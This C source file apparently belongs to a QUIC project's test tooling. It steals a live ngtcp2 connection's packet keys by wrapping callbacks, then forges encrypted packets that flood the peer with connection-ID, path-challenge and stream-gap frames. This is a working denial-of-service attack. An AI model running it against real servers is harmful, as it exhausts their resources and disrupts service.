/*
 * Packets that no QUIC library would write: frames of our choice, under the true keys of a true
 * connection. The keys are looked at when the connection itself protects its first packet of data
 * (lsp_protection_set_callbacks is wrapped at linking); from then on packets can be sent past
 * ngtcp2, from the same socket, with packet numbers far above its own, as many as one likes. Once
 * that began, ngtcp2 hears nothing any more but the other side's CONNECTION_CLOSE: acknowledgements
 * of what it never sent would end the connection from this side.
 *
 * One connection a process.
 */
#include "hostile.h"

#include "base/random.h"
#include "net/protection.h"

#include <string.h>
#include <sys/socket.h>

#define PACKET_SIZE 1200
#define TAG_SIZE 16
#define NUMBER_SIZE 4
#define FAR_ABOVE 100000
#define BURST 64 /* packets a tick */
#define DESCRIPTORS_MAX 256
#define STREAMS 60
#define STREAM_GAPS 100000 /* on each: below the window of a stream, 256 KiB */

#define FRAME_STREAM 0x0e /* with offset and length */
#define FRAME_NEW_CONNECTION_ID 0x18
#define FRAME_PATH_CHALLENGE 0x1a
#define FRAME_CONNECTION_CLOSE 0x1c

static struct {
	ngtcp2_callbacks real;
	ngtcp2_crypto_aead aead;
	ngtcp2_crypto_aead_ctx key;
	ngtcp2_crypto_cipher cipher;
	ngtcp2_crypto_cipher_ctx header_key;
	uint8_t iv[12], header[1 + NGTCP2_MAX_CIDLEN];
	size_t header_size; /* without the number; 0: nothing seen yet */
	bool masked, begun;
	uint64_t number, count; /* of the next packet; of frames written */
	int fd;
	struct sockaddr_storage to;
} forge = {.fd = -1};

/* ---- Looking at the keys --------------------------------------------------------------------- */

static int encrypt(uint8_t *dest, const ngtcp2_crypto_aead *aead, const ngtcp2_crypto_aead_ctx *key,
	const uint8_t *text, size_t size, const uint8_t *nonce, size_t nonce_size,
	const uint8_t *header, size_t header_size)
{
	/* The tag of a Retry is made so as well, of nothing but a header (RFC 9001, 5.8). */
	if (size && !(header[0] & 0x80) && !forge.header_size && nonce_size == sizeof forge.iv &&
		header_size <= sizeof forge.header + 4) {
		size_t number_size = (header[0] & 3) + 1u;
		forge.aead = *aead;
		forge.key = *key;
		forge.header_size = header_size - number_size;
		memcpy(forge.header, header, forge.header_size);
		memcpy(forge.iv, nonce, sizeof forge.iv);
		/* The nonce is the IV with the number over its end (RFC 9001, 5.3), still a small
		 * one. */
		for (size_t i = 1; i <= number_size; i++)
			forge.iv[sizeof forge.iv - i] ^= header[header_size - i];
	}
	return forge.real.encrypt(
		dest, aead, key, text, size, nonce, nonce_size, header, header_size);
}

/* ngtcp2 asks for the mask of a packet right after it has encrypted it. */
static int mask(uint8_t *dest, const ngtcp2_crypto_cipher *cipher,
	const ngtcp2_crypto_cipher_ctx *key, const uint8_t *sample)
{
	if (forge.header_size && !forge.masked) {
		forge.cipher = *cipher;
		forge.header_key = *key;
		forge.masked = true;
	}
	return forge.real.hp_mask(dest, cipher, key, sample);
}

static int decrypt(uint8_t *dest, const ngtcp2_crypto_aead *aead, const ngtcp2_crypto_aead_ctx *key,
	const uint8_t *sealed, size_t size, const uint8_t *nonce, size_t nonce_size,
	const uint8_t *header, size_t header_size)
{
	int r = forge.real.decrypt(
		dest, aead, key, sealed, size, nonce, nonce_size, header, header_size);
	if (r == 0 && forge.begun && (dest[0] & 0xfe) != FRAME_CONNECTION_CLOSE)
		return NGTCP2_ERR_DECRYPT;
	return r;
}

void __real_lsp_protection_set_callbacks(ngtcp2_callbacks *callbacks);
void __wrap_lsp_protection_set_callbacks(ngtcp2_callbacks *callbacks);

void __wrap_lsp_protection_set_callbacks(ngtcp2_callbacks *callbacks)
{
	__real_lsp_protection_set_callbacks(callbacks);
	forge.real = *callbacks;
	callbacks->encrypt = encrypt;
	callbacks->decrypt = decrypt;
	callbacks->hp_mask = mask;
}

/* ---- Frames (RFC 9000, 19) ------------------------------------------------------------------- */

struct frames {
	uint8_t data[PACKET_SIZE];
	size_t size;
};

static void put(struct frames *frames, const void *data, size_t size)
{
	memcpy(frames->data + frames->size, data, size);
	frames->size += size;
}

/* A variable-length integer, always as four bytes. */
static void put_number(struct frames *frames, uint64_t number)
{
	uint8_t bytes[] = {(uint8_t)(0x80 | (number >> 24 & 0x3f)), (uint8_t)(number >> 16),
		(uint8_t)(number >> 8), (uint8_t)number};
	put(frames, bytes, sizeof bytes);
}

static void put_byte(struct frames *frames, uint8_t byte)
{
	put(frames, &byte, 1);
}

static void put_new_cid(struct frames *frames, bool retire)
{
	uint8_t random[16 + NGTCP2_STATELESS_RESET_TOKENLEN];
	uint64_t sequence = 10 + forge.count++;
	lsp_random_bytes(random, sizeof random);
	put_byte(frames, FRAME_NEW_CONNECTION_ID);
	put_number(frames, sequence);
	put_number(frames, retire ? sequence : 0);
	put_byte(frames, 16);
	put(frames, random, 16);
	put(frames, random + 16, NGTCP2_STATELESS_RESET_TOKENLEN);
}

static void put_challenge(struct frames *frames)
{
	uint8_t random[8];
	lsp_random_bytes(random, sizeof random);
	put_byte(frames, FRAME_PATH_CHALLENGE);
	put(frames, random, sizeof random);
	forge.count++;
}

/* One byte of a stream, behind a byte that never comes. */
static void put_gap(struct frames *frames)
{
	uint64_t stream = forge.count % STREAMS, gap = forge.count / STREAMS % STREAM_GAPS;
	put_byte(frames, FRAME_STREAM);
	put_number(frames, 4 * (stream + 10)); /* client-initiated, behind those in use */
	put_number(frames, 2 * gap + 1);
	put_byte(frames, 1);
	put_byte(frames, 0);
	forge.count++;
}

static void put_frame(struct frames *frames, enum flood flood)
{
	switch (flood) {
	case FLOOD_CIDS:
	case FLOOD_RETIRED_CIDS:
		put_new_cid(frames, flood == FLOOD_RETIRED_CIDS);
		break;
	case FLOOD_CHALLENGES:
		put_challenge(frames);
		break;
	case FLOOD_GAPS:
		put_gap(frames);
		break;
	}
}

/* ---- Packets --------------------------------------------------------------------------------- */

static void send_packet(const struct frames *frames)
{
	uint8_t packet[PACKET_SIZE + 64], nonce[sizeof forge.iv], mask_bytes[NGTCP2_HP_MASKLEN];
	uint8_t *number = packet + forge.header_size, *body = number + NUMBER_SIZE;
	memcpy(packet, forge.header, forge.header_size);
	memcpy(nonce, forge.iv, sizeof nonce);
	packet[0] = (uint8_t)((packet[0] & ~3) | (NUMBER_SIZE - 1));
	for (size_t i = 0; i < NUMBER_SIZE; i++) {
		number[i] = (uint8_t)(forge.number >> 8 * (NUMBER_SIZE - 1 - i));
		nonce[sizeof nonce - NUMBER_SIZE + i] ^= number[i];
	}
	forge.number++;
	if (forge.real.encrypt(body, &forge.aead, &forge.key, frames->data, frames->size, nonce,
		    sizeof nonce, packet, (size_t)(body - packet)) != 0 ||
		forge.real.hp_mask(mask_bytes, &forge.cipher, &forge.header_key, body) != 0)
		die("protection", NULL);
	packet[0] ^= mask_bytes[0] & 0x1f;
	for (size_t i = 0; i < NUMBER_SIZE; i++)
		number[i] ^= mask_bytes[1 + i];
	/* What the socket does not take now is lost, as on any link. */
	(void)!sendto(forge.fd, packet, (size_t)(body - packet) + frames->size + TAG_SIZE,
		MSG_DONTWAIT, (struct sockaddr *)&forge.to, lsp_address_size(&forge.to));
}

/* The endpoint's own socket, by its port: another one would be another path. */
static int find_socket(uint16_t port, int family)
{
	for (int fd = 3; fd < DESCRIPTORS_MAX; fd++) {
		struct sockaddr_storage name = {0};
		socklen_t size = sizeof name;
		if (getsockname(fd, (struct sockaddr *)&name, &size) == 0 &&
			name.ss_family == family && lsp_address_port(&name) == port)
			return fd;
	}
	die("the socket", NULL);
}

void forge_begin(const struct lsp_endpoint *endpoint, const struct sockaddr_storage *to)
{
	if (!forge.masked)
		die("no packet of data yet", NULL);
	forge.to = *to;
	forge.fd = find_socket(lsp_endpoint_port(endpoint), to->ss_family);
	forge.number = FAR_ABOVE;
	forge.begun = true;
}

uint64_t forge_flood(enum flood flood)
{
	if (!forge.begun)
		return 0;
	for (int i = 0; i < BURST; i++) {
		struct frames frames = {0};
		while (frames.size + 64 < sizeof frames.data)
			put_frame(&frames, flood);
		send_packet(&frames);
	}
	return forge.count;
}
